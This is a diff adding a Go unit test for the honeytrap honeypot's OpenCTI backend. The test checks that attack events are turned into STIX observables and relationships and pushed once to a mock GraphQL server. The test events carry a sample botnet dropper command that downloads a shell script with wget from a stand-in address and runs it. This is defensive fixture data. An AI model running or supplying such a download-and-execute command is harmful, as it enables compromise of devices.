@@ -0,0 +1,108 @@
+// Copyright 2016-2019 DutchSec (https://dutchsec.com/)
+//
+// Licensed under the Apache License, Version 2.0 (the "License");
+// you may not use this file except in compliance with the License.
+// You may obtain a copy of the License at
+//
+// http://www.apache.org/licenses/LICENSE-2.0
+//
+// Unless required by applicable law or agreed to in writing, software
+// distributed under the License is distributed on an "AS IS" BASIS,
+// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+// See the License for the specific language governing permissions and
+// limitations under the License.
+package opencti
+
+import (
+	"encoding/json"
+	"fmt"
+	"net"
+	"net/http"
+	"net/http/httptest"
+	"strings"
+	"sync"
+	"testing"
+
+	"github.com/honeytrap/honeytrap/event"
+)
+
+func TestPush(t *testing.T) {
+	var m sync.Mutex
+
+	observables := map[string]int{}
+	relationships := 0
+
+	ts := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		if r.Header.Get("Authorization") != "Bearer secret" {
+			w.WriteHeader(http.StatusUnauthorized)
+			return
+		}
+
+		req := graphQLRequest{}
+		if err := json.NewDecoder(r.Body).Decode(&req); err != nil {
+			t.Error(err)
+			return
+		}
+
+		m.Lock()
+		defer m.Unlock()
+
+		if strings.Contains(req.Query, "stixCyberObservableAdd") {
+			observables[req.Variables["type"].(string)]++
+			fmt.Fprintf(w, `{"data": {"stixCyberObservableAdd": {"id": "%d"}}}`, len(observables))
+		} else {
+			relationships++
+			fmt.Fprintf(w, `{"data": {"stixCoreRelationshipAdd": {"id": "r%d"}}}`, relationships)
+		}
+	}))
+
+	defer ts.Close()
+
+	b := &Backend{
+		Config: Config{
+			URL:   ts.URL,
+			Token: "secret",
+		},
+		client:        ts.Client(),
+		observables:   map[observable]struct{}{},
+		relationships: map[relationship]struct{}{},
+		ids:           map[observable]string{},
+		pushed:        map[relationship]struct{}{},
+	}
+
+	for i := 0; i < 2; i++ {
+		b.Send(event.New(
+			event.Category("telnet"),
+			event.SourceAddr(&net.TCPAddr{IP: net.ParseIP("192.0.2.1"), Port: 1234}),
+			event.Payload([]byte("cd /tmp; wget http://198.51.100.1/bins.sh; sh bins.sh")),
+		))
+	}
+
+	b.push()
+
+	if observables["IPv4-Addr"] != 1 || observables["StixFile"] != 1 || observables["Url"] != 1 {
+		t.Errorf("Unexpected observables: %v", observables)
+	}
+
+	if relationships != 2 {
+		t.Errorf("Expected 2 relationships, got %d", relationships)
+	}
+
+	// pushed observables and relationships are not pushed again
+	b.Send(event.New(
+		event.SourceAddr(&net.TCPAddr{IP: net.ParseIP("192.0.2.1"), Port: 1234}),
+		event.Payload([]byte("cd /tmp; wget http://198.51.100.1/bins.sh; sh bins.sh")),
+	))
+
+	b.push()
+
+	if relationships != 2 || len(b.observables) != 0 {
+		t.Errorf("Expected nothing to be pushed again")
+	}
+}
+
+func TestNewWithoutURL(t *testing.T) {
+	if _, err := New(); err == nil {
+		t.Errorf("Expected error without url")
+	}
+}